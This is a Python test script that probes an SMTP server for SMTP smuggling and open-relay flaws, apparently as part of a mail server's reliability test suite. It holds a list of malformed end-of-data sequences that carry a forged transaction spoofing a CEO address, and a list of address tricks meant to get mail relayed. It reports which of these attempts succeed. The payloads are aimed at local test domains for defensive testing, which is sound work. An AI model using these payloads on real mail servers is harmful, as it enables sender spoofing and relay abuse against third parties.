#!/usr/bin/env python3
"""Smuggling and open-relay probes against any SMTP server (the peers'
side of reliability_smuggling.rs and reliability_open_relay.rs).

  probe.py smuggle --port P --rcpt carrier@local.test --victim victim@local.test \\
                   [--maildir DIR]
      For every malformed end-of-data sequence: a message whose body holds
      the sequence, then a whole forged transaction, then the real CRLF.CRLF.
      Counts the replies the server sends (one expected: the carrier's) and,
      with --maildir, the forged messages that arrived (none expected).

  probe.py relay --port P --domain local.test [--source 127.0.0.2] \\
                 [--sink-port 2609]
      Tries the relay tricks from --source; runs a sink on --sink-port (point
      the server's relay host there) that records every RCPT it receives.
      Reports each RCPT's reply and whatever reached the sink.

Output: JSON lines, one per attempt, then a summary line.
"""

import argparse
import json
import os
import socketserver
import sys
import threading
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from reltools.maildir import headers, message_files  # noqa: E402
from reltools.smtp import Closed, Session  # noqa: E402

SEQUENCES = [
    ("lf-dot-lf", b"\n.\n"), ("lf-dot-crlf", b"\n.\r\n"), ("crlf-dot-lf", b"\r\n.\n"),
    ("cr-dot-cr", b"\r.\r"), ("cr-dot-lf", b"\r.\n"), ("lf-dot-cr", b"\n.\r"),
    ("cr-dot-crlf", b"\r.\r\n"), ("crlf-dot-cr", b"\r\n.\r"),
    ("cr-dot-cr-lf-split", b"\r\n.\r\r\n"), ("crlf-nul-dot-crlf", b"\r\n\0.\r\n"),
    ("crlf-dot-nul-crlf", b"\r\n.\0\r\n"), ("cr-nul-lf-dot-crlf", b"\r\0\n.\r\n"),
    ("crlf-dot-cr-nul-lf", b"\r\n.\r\0\n"),
]

# Must match reliability_open_relay.rs.
RELAY_ATTEMPTS = [
    "<victim@other.test>", "<victim%other.test@{D}>", "<\"victim%other.test\"@{D}>",
    "<victim%other.test>", "<@relay.test:victim@other.test>", "<@{D}:victim@other.test>",
    "<@{D},@relay.test:victim@other.test>", "<\"victim@other.test\"@{D}>",
    "<\"victim@other.test\">", "<victim@other.test@{D}>", "<victim@{D}@other.test>",
    "<other.test!victim@{D}>", "<other.test!victim>", "<victim@[192.0.2.1]>",
    "<victim@[IPv6:2001:db8::1]>", "<victim@other.test.>", "<victim@other.test..>",
    "<victim@.other.test>", "<victim@other.test.{D}.invalid>", "<victim@{D}.other.test>",
    "<victim@other.test >", "victim@other.test", "<victim@other.test\0@{D}>",
    "<victim@OTHER.TEST>", "<postmaster@other.test>",
]


def extra_replies(s, wait):
    """Replies that arrive within `wait` seconds (there should be none)."""
    s.sock.settimeout(wait)
    out = []
    try:
        while True:
            out.append(s.reply()[0])
    except Closed:
        pass
    return out


def smuggle(a):
    run = f"{os.getpid()}-{int(time.time())}"
    results = []
    for name, seq in SEQUENCES:
        s = Session(a.host, a.port, timeout=20, source=a.source)
        s.reply()
        s.cmd("EHLO probe.test")
        s.cmd("MAIL FROM:<sender@client.test>")
        s.cmd(f"RCPT TO:<{a.rcpt}>")
        s.cmd("DATA")
        forged = (f"MAIL FROM:<forger@evil.test>\r\nRCPT TO:<{a.victim}>\r\nDATA\r\n"
                  f"From: <ceo@local.test>\r\nSubject: forged {run} {name}\r\n\r\n"
                  f"smuggled body\r\n").encode()
        data = f"Subject: carrier {run} {name}\r\n\r\nbefore".encode() + seq + forged + b"after\r\n.\r\n"
        s.send(data)
        try:
            first = s.reply()
            end = f"{first[0]} {' '.join(first[1])}"
        except Closed as e:
            end = f"closed: {e}"
        more = extra_replies(s, 2.0)
        s.quit()
        results.append({"sequence": name, "end_of_data_reply": end, "extra_replies": more})
    forged_found = {}
    if a.maildir:
        time.sleep(a.settle)
        for path in message_files(a.maildir):
            with open(path, "rb") as f:
                hs = headers(f.read())
            for n, v in hs:
                if n == "subject" and v.startswith(f"forged {run} "):
                    name = v.split()[-1]
                    forged_found[name] = forged_found.get(name, 0) + 1
    for r in results:
        r["forged_delivered"] = forged_found.get(r["sequence"], 0) if a.maildir else None
        r["smuggled"] = bool(r["extra_replies"]) or bool(r["forged_delivered"])
        print(json.dumps({"server": a.label, **r}), flush=True)
    print(json.dumps({"server": a.label, "summary": True, "sequences": len(results),
                      "smuggled": sum(r["smuggled"] for r in results)}))


class SinkHandler(socketserver.StreamRequestHandler):
    def handle(self):
        self.wfile.write(b"220 sink\r\n")
        while True:
            line = self.rfile.readline()
            if not line:
                return
            up = line.upper()
            if up.startswith((b"MAIL", b"RCPT")):
                self.server.records.append(line.decode("latin-1").strip())
            if up.startswith(b"DATA"):
                self.wfile.write(b"354 go\r\n")
                while self.rfile.readline() not in (b".\r\n", b""):
                    pass
            if up.startswith(b"QUIT"):
                self.wfile.write(b"221 bye\r\n")
                return
            self.wfile.write(b"250 ok\r\n")


def relay(a):
    sink = socketserver.ThreadingTCPServer(("127.0.0.1", a.sink_port), SinkHandler)
    sink.daemon_threads = True
    sink.records = []
    threading.Thread(target=sink.serve_forever, daemon=True).start()
    accepted = 0
    for tmpl in RELAY_ATTEMPTS:
        rcpt = tmpl.replace("{D}", a.domain)
        s = Session(a.host, a.port, timeout=20, source=a.source)
        s.reply()
        s.cmd("EHLO probe.test")
        code, text = s.cmd(f"MAIL FROM:<{a.sender}>")
        s.send(b"RCPT TO:" + rcpt.encode("latin-1") + b"\r\n")
        try:
            code, text = s.reply()
        except Closed as e:
            code, text = 0, [str(e)]
        if code == 250:
            accepted += 1
            s.cmd("DATA")
            s.send(f"Subject: relay probe {rcpt}\r\n\r\nprobe\r\n.\r\n".encode("latin-1"))
            try:
                end = s.reply()[0]
            except Closed:
                end = 0
        else:
            end = None
        s.quit()
        print(json.dumps({"server": a.label, "source": a.source, "rcpt": rcpt,
                          "rcpt_reply": f"{code} {' '.join(text)}", "end_of_data": end}),
              flush=True)
    time.sleep(a.settle)
    sink.shutdown()
    print(json.dumps({"server": a.label, "summary": True, "attempts": len(RELAY_ATTEMPTS),
                      "rcpt_accepted": accepted, "reached_sink": sink.records}))


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter,
                                epilog=__doc__.split("\n", 2)[2])
    p.add_argument("mode", choices=["smuggle", "relay"])
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--source", default=None, help="client source address (relay: 127.0.0.2)")
    p.add_argument("--rcpt", default="carrier@local.test")
    p.add_argument("--victim", default="victim@local.test")
    p.add_argument("--maildir")
    p.add_argument("--domain", default="local.test")
    p.add_argument("--sender", default="attacker@evil.test")
    p.add_argument("--sink-port", type=int, default=2609)
    p.add_argument("--settle", type=float, default=5.0)
    p.add_argument("--label", default="")
    a = p.parse_args()
    if a.mode == "relay" and a.source is None:
        a.source = "127.0.0.2"
    smuggle(a) if a.mode == "smuggle" else relay(a)


if __name__ == "__main__":
    main()
